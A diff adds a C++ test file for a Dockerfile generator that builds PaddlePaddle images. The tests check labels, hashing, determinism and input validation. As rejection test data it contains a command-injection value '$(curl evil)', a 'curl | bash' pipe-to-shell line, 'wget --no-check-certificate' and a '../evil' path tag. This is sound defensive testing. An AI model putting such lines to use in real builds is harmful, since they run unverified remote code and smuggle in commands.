@@ -1,0 +1,279 @@
+#include <doctest/doctest.h>
+
+#include <filesystem>
+
+#include "core/error.h"
+#include "core/fs.h"
+#include "core/hash.h"
+#include "core/process.h"
+#include "dockerfiles/cell_values.h"
+#include "dockerfiles/generate.h"
+#include "dockerfiles/test_cells.h"
+#include "tests/fixtures.h"
+
+using namespace imgtool;
+using namespace imgtool::dockerfiles;
+using namespace imgtool::dockerfiles::testing;
+namespace fs = std::filesystem;
+
+namespace {
+
+const char* kKb = "kb-test-1";
+
+std::string error_of(const std::function<void()>& f) {
+  try {
+    f();
+  } catch (const InputError& e) {
+    return e.what();
+  }
+  return "(no InputError)";
+}
+
+bool contains(const std::string& s, const std::string& part) { return s.find(part) != std::string::npos; }
+
+// A small fake wheelhouse (real wheels are for the integration test).
+fs::path make_wheelhouse(const fs::path& dir, const std::string& numpy_bytes = "numpy wheel") {
+  write_file_atomic(dir / "paddlepaddle-3.2.0-cp311-cp311-manylinux1_x86_64.whl", "paddle wheel");
+  write_file_atomic(dir / "numpy-2.4.6-cp311-cp311-manylinux_2_28_x86_64.whl", numpy_bytes);
+  write_file_atomic(dir / "requirements.txt", "paddlepaddle==3.2.0\n");  // not a wheel: not copied
+  return dir;
+}
+
+std::vector<matrix::Cell> sample_cells(const fs::path& wheels) {
+  return {gpu_cell(), trt_cell(), cpu_cell(wheels.string(), "imgtool-base/debian:bookworm-py3")};
+}
+
+// Copies the shipped templates so a test may edit them.
+fs::path copy_templates(const fs::path& to) {
+  fs::copy(fs::path(imgtool::testing::source_dir()) / "dockerfiles", to, fs::copy_options::recursive);
+  return to;
+}
+
+std::string hash_of(const matrix::Cell& c, const fs::path& templates = {}, const std::string& kb = kKb) {
+  TemplateDir t(templates.empty() ? fs::path(imgtool::testing::source_dir()) / "dockerfiles" : templates);
+  return render_cell(c, t, kb).inputs_hash;
+}
+
+// Every regular file under dir, relative path -> bytes.
+std::map<std::string, std::string> snapshot(const fs::path& dir) {
+  std::map<std::string, std::string> m;
+  for (auto& e : fs::recursive_directory_iterator(dir))
+    if (e.is_regular_file()) m[fs::relative(e.path(), dir).string()] = read_file(e.path());
+  return m;
+}
+
+}  // namespace
+
+TEST_CASE("generate writes one folder per cell with Dockerfile, cell.json and context files") {
+  imgtool::testing::ScratchDir d("gen");
+  auto cells = sample_cells(make_wheelhouse(d.path / "wh"));
+  auto out = generate(cells, {d.path / "out", "", kKb});
+  REQUIRE(out.size() == 3);
+  for (auto& c : cells) {
+    fs::path dir = d.path / "out" / c.tag;
+    REQUIRE(fs::exists(dir / "Dockerfile"));
+    auto j = nlohmann::json::parse(read_file(dir / "cell.json"));
+    CHECK(j.at("cell").get<matrix::Cell>().tag == c.tag);
+    CHECK(j.at("cell").get<matrix::Cell>().pip_requirement == c.pip_requirement);
+    CHECK(j.at("kb_version") == kKb);
+    std::string hash = j.at("inputs_hash");
+    CHECK(hash == sha256_digest(read_file(dir / "inputs.txt")));
+    std::string df = read_file(dir / "Dockerfile");
+    CHECK(contains(df, "LABEL io.imgtool.inputs-hash=\"" + hash + "\"\n"));
+    CHECK(contains(df, "io.imgtool.paddle=\"" + c.paddle + "\""));
+    CHECK(contains(df, "io.imgtool.tag=\"" + c.tag + "\""));
+    CHECK(contains(df, "io.imgtool.kb-version=\"" + std::string(kKb) + "\""));
+    CHECK(contains(df, "org.opencontainers.image.version=\"" + c.tag + "\""));
+    CHECK(contains(df, "USER paddle\n"));
+    CHECK(contains(df, "--no-install-recommends"));
+    CHECK(contains(df, "rm -rf /var/lib/apt/lists/*"));
+    CHECK(contains(df, "pip install --no-cache-dir"));
+    CHECK(contains(df, "\"" + c.pip_requirement + "\""));
+    CHECK_FALSE(contains(df, "{{"));
+    CHECK_FALSE(contains(df, d.path.string()));  // no host path: the same output on every machine
+  }
+  CHECK(fs::exists(d.path / "out/.imgtool-generated"));
+}
+
+TEST_CASE("gpu images claim CUDA and the driver floor; cpu images claim none") {
+  imgtool::testing::ScratchDir d("gen-gpu");
+  auto cells = sample_cells(make_wheelhouse(d.path / "wh"));
+  generate(cells, {d.path / "out", "", kKb});
+  std::string gpu = read_file(d.path / "out" / cells[0].tag / "Dockerfile");
+  CHECK(contains(gpu, "FROM nvidia/cuda:12.6.3-cudnn-runtime-ubuntu22.04@sha256:" + std::string(64, 'a') + " AS build\n"));
+  CHECK(contains(gpu, "ENV NVIDIA_REQUIRE_CUDA=\"cuda>=12.6 driver>=525.60.13\"\n"));
+  CHECK(contains(gpu, "io.imgtool.cuda=\"12.6\""));
+  CHECK(contains(gpu, "io.imgtool.cudnn=\"9.5\""));
+  CHECK(contains(gpu, "io.imgtool.min-driver=\"525.60.13\""));
+  CHECK(contains(gpu, "org.opencontainers.image.base.digest=\"sha256:"));
+  CHECK_FALSE(contains(gpu, "io.imgtool.tensorrt"));  // empty claim omitted
+  CHECK(contains(gpu, "--index-url \"https://www.paddlepaddle.org.cn/packages/stable/cu126/\""));
+  std::string trt = read_file(d.path / "out" / cells[1].tag / "Dockerfile");
+  CHECK(contains(trt, "io.imgtool.tensorrt=\"10.5\""));
+  CHECK(contains(trt, "io.imgtool.flavor=\"devel\""));
+  CHECK_FALSE(contains(trt, "org.opencontainers.image.base.digest"));
+  std::string cpu = read_file(d.path / "out" / cells[2].tag / "Dockerfile");
+  CHECK_FALSE(contains(cpu, "NVIDIA_REQUIRE_CUDA"));
+  CHECK_FALSE(contains(cpu, "io.imgtool.cuda"));
+  CHECK(contains(cpu, "io.imgtool.variant=\"cpu\""));
+  CHECK(contains(cpu, "--no-index --find-links /tmp/wheels \"paddlepaddle==3.2.0\""));
+  CHECK_FALSE(contains(cpu, "--index-url"));
+}
+
+TEST_CASE("the inputs hash is over the Dockerfile without its own label") {
+  imgtool::testing::ScratchDir d("gen-strip");
+  TemplateDir t(fs::path(imgtool::testing::source_dir()) / "dockerfiles");
+  auto r = render_cell(gpu_cell(), t, kKb);
+  std::string stripped = strip_inputs_hash_label(r.dockerfile);
+  CHECK(stripped.size() < r.dockerfile.size());
+  CHECK_FALSE(contains(stripped, "inputs-hash"));
+  CHECK(contains(r.inputs_manifest, "dockerfile " + sha256_digest(stripped) + "\n"));
+}
+
+TEST_CASE("generation is deterministic: same inputs, byte-identical folders") {
+  imgtool::testing::ScratchDir d("gen-det");
+  auto cells = sample_cells(make_wheelhouse(d.path / "wh"));
+  generate(cells, {d.path / "a", "", kKb});
+  generate(cells, {d.path / "b", "", kKb});
+  auto a = snapshot(d.path / "a"), b = snapshot(d.path / "b");
+  CHECK(a.size() == 3 * 3 + 2 + 1);  // Dockerfile, cell.json, inputs.txt per cell; 2 wheels; marker
+  CHECK(a == b);
+  generate(cells, {d.path / "a", "", kKb});  // regenerate in place: replaced, same bytes
+  CHECK(snapshot(d.path / "a") == b);
+}
+
+TEST_CASE("the inputs hash changes with template, base, pins, wheels and KB version") {
+  imgtool::testing::ScratchDir d("gen-hash");
+  auto wh = make_wheelhouse(d.path / "wh");
+  auto cpu = cpu_cell(wh.string(), "imgtool-base/debian:bookworm-py3");
+  auto gpu = gpu_cell();
+  const std::string h_cpu = hash_of(cpu), h_gpu = hash_of(gpu);
+  CHECK(h_cpu != h_gpu);
+  CHECK(hash_of(cpu) == h_cpu);
+
+  auto g = gpu;
+  g.base_digest = "sha256:" + std::string(64, 'b');
+  CHECK(hash_of(g) != h_gpu);
+  g = gpu;
+  g.base_image = "nvidia/cuda:12.6.2-cudnn-runtime-ubuntu22.04";
+  CHECK(hash_of(g) != h_gpu);
+  g = gpu;
+  g.pip_requirement = "paddlepaddle-gpu==3.1.1";
+  CHECK(hash_of(g) != h_gpu);
+  g = gpu;
+  g.pip_index_url = "https://www.paddlepaddle.org.cn/packages/stable/cu118/";
+  CHECK(hash_of(g) != h_gpu);
+  CHECK(hash_of(gpu, {}, "kb-test-2") != h_gpu);
+
+  write_file_atomic(wh / "numpy-2.4.6-cp311-cp311-manylinux_2_28_x86_64.whl", "numpy wheel, rebuilt");
+  CHECK(hash_of(cpu) != h_cpu);  // same file names, different wheel contents
+
+  auto t = copy_templates(d.path / "tmpl");
+  CHECK(hash_of(gpu, t) == h_gpu);
+  write_file_atomic(t / "partials/install-runtime.Dockerfile.in",
+                    read_file(t / "partials/install-runtime.Dockerfile.in") + "{{! an edited comment }}\n");
+  CHECK(hash_of(gpu, t) != h_gpu);  // template bytes count even when the output does not change
+}
+
+TEST_CASE("a failing cell leaves no output folder, and an older output stays intact") {
+  imgtool::testing::ScratchDir d("gen-stage");
+  auto cells = sample_cells(make_wheelhouse(d.path / "wh"));
+  auto bad = cells;
+  bad[2].pip_requirement = "paddlepaddle>=3.0";  // not pinned
+  auto msg = error_of([&] { generate(bad, {d.path / "out", "", kKb}); });
+  CHECK(msg == "cell 3.2.0: pip_requirement 'paddlepaddle>=3.0' is not pinned; expected name==version "
+               "(e.g. paddlepaddle-gpu==3.1.0)");
+  CHECK_FALSE(fs::exists(d.path / "out"));
+  CHECK(fs::is_empty(d.path) == false);
+  for (auto& e : fs::directory_iterator(d.path)) CHECK(e.path().filename().string() == "wh");  // no staging left
+
+  generate(cells, {d.path / "out", "", kKb});
+  auto before = snapshot(d.path / "out");
+  bad = cells;
+  bad[1].overrides["extra"] = "$(curl evil)";
+  msg = error_of([&] { generate(bad, {d.path / "out", "", kKb}); });
+  CHECK(contains(msg, "extra '$(curl evil)' has a character that is unsafe"));
+  CHECK(snapshot(d.path / "out") == before);
+}
+
+TEST_CASE("bad input is one clear InputError") {
+  imgtool::testing::ScratchDir d("gen-bad");
+  auto wh = make_wheelhouse(d.path / "wh");
+  auto cells = sample_cells(wh);
+  auto dup = cells;
+  dup[1].tag = dup[0].tag;
+  CHECK(error_of([&] { generate(dup, {d.path / "o1", "", kKb}); }) ==
+        "two cells have the same tag '3.1.0-gpu-cuda12.6-cudnn9.5'");
+  CHECK(error_of([&] { generate({}, {d.path / "o1", "", kKb}); }).find("no cells") == 0);
+  write_file_atomic(d.path / "mine/notes.txt", "precious");
+  CHECK(contains(error_of([&] { generate(cells, {d.path / "mine", "", kKb}); }), "was not made by imgtool generate"));
+  CHECK(read_file(d.path / "mine/notes.txt") == "precious");
+  auto c = cells[0];
+  c.variant = "tpu";
+  CHECK(error_of([&] { generate({c}, {d.path / "o1", "", kKb}); }) ==
+        "cell 3.1.0-gpu-cuda12.6-cudnn9.5: variant 'tpu': expected gpu or cpu");
+  c = cells[0];
+  c.pip_index_url = "http://mirror.example/simple";
+  CHECK(contains(error_of([&] { generate({c}, {d.path / "o1", "", kKb}); }), "expected an https:// URL"));
+  c = cells[0];
+  c.tag = "../evil";
+  CHECK(contains(error_of([&] { generate({c}, {d.path / "o1", "", kKb}); }), "expected a Docker tag"));
+  c = cells[2];
+  c.pip_requirement = "paddlepaddle==3.1.0";
+  CHECK(contains(error_of([&] { generate({c}, {d.path / "o1", "", kKb}); }),
+                 "has no wheel for paddlepaddle==3.1.0 (expected a file paddlepaddle-3.1.0-*.whl)"));
+  c = cells[0];
+  c.template_name = "nope";
+  CHECK(error_of([&] { generate({c}, {d.path / "o1", "", kKb}); }).find("dockerfiles/nope.Dockerfile.in: template file not found") == 0);
+  CHECK_FALSE(fs::exists(d.path / "o1"));
+}
+
+TEST_CASE("template errors and lint findings fail generation with file:line") {
+  imgtool::testing::ScratchDir d("gen-lint");
+  auto t = copy_templates(d.path / "tmpl");
+  std::string orig = read_file(t / "paddle.Dockerfile.in");
+  write_file_atomic(t / "paddle.Dockerfile.in", orig + "RUN echo {{paddle_version}}\n");
+  int line = static_cast<int>(std::count(orig.begin(), orig.end(), '\n')) + 1;
+  CHECK(error_of([&] { generate({gpu_cell()}, {d.path / "out", t, kKb}); })
+            .find("dockerfiles/paddle.Dockerfile.in:" + std::to_string(line) + ": unknown placeholder {{paddle_version}}") == 0);
+  write_file_atomic(t / "paddle.Dockerfile.in",
+                    orig + "RUN curl -fsSL https://example.com/x.sh | bash\nRUN wget --no-check-certificate https://e/y\n");
+  auto msg = error_of([&] { generate({gpu_cell()}, {d.path / "out", t, kKb}); });
+  CHECK(msg == "template lint failed (download without verification):\n"
+               "dockerfiles/paddle.Dockerfile.in:" + std::to_string(line) +
+               ": a download is piped into a shell unchecked; save it, verify with sha256sum -c, then run it "
+               "[pipe-to-shell]\n"
+               "dockerfiles/paddle.Dockerfile.in:" + std::to_string(line + 1) +
+               ": --no-check-certificate disables TLS verification; remove it [wget-no-check-certificate]");
+  CHECK_FALSE(fs::exists(d.path / "out"));
+}
+
+TEST_CASE("wheels are hard-linked into the context when on the same filesystem") {
+  imgtool::testing::ScratchDir d("gen-link");
+  auto wh = make_wheelhouse(d.path / "wh");
+  auto out = generate({cpu_cell(wh.string(), "b")}, {d.path / "out", "", kKb});
+  REQUIRE(out.size() == 1);
+  CHECK(out[0].context_files == 2);
+  CHECK(out[0].hard_linked == 2);
+  auto w = d.path / "out/3.2.0/wheels/paddlepaddle-3.2.0-cp311-cp311-manylinux1_x86_64.whl";
+  CHECK(fs::hard_link_count(w) == 2);
+  CHECK(read_file(w) == "paddle wheel");
+  CHECK_FALSE(fs::exists(d.path / "out/3.2.0/wheels/requirements.txt"));
+}
+
+TEST_CASE("generated Dockerfiles pass BuildKit's parser (PyPI dockerfile)") {
+  imgtool::testing::ScratchDir d("gen-parse");
+  generate(sample_cells(make_wheelhouse(d.path / "wh")), {d.path / "out", "", kKb});
+  std::string script = imgtool::testing::source_dir() + "/dockerfiles/check_dockerfiles.py";
+  auto r = run({"python3", script, (d.path / "out").string()});
+  INFO(r.out, r.err);
+  CHECK(r.exit_code == 0);
+  CHECK(contains(r.out, "ok 3"));
+  // The checker is real: a broken Dockerfile fails it.
+  write_file_atomic(d.path / "bad/Dockerfile", "FROM x\nRUN echo a \\\n");
+  write_file_atomic(d.path / "bad2/Dockerfile", "RUN echo before from\nFROM x\nFRUM y\n");
+  r = run({"python3", script, (d.path / "bad").string(), (d.path / "bad2").string()});
+  CHECK(r.exit_code == 1);
+  CHECK(contains(r.out, "first instruction is run, expected FROM"));
+  CHECK(contains(r.out, "unknown instruction FRUM"));
+}
